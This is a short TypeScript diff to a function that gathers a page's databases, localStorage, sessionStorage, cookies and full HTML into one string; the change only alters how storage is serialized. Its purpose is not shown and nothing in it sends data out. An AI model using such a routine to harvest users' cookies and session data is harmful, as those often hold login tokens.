@@ -74,8 +74,8 @@ async function databases(): Promise<string> {
 async function everything(): Promise<string> {
   let text =
     (await databases()) +
-    JSON.stringify({ ...localStorage }) +
-    JSON.stringify({ ...sessionStorage });
+    JSON.stringify(Object.entries(localStorage)) +
+    JSON.stringify(Object.entries(sessionStorage));
   text +=
     document.cookie +
     document.documentElement.outerHTML +
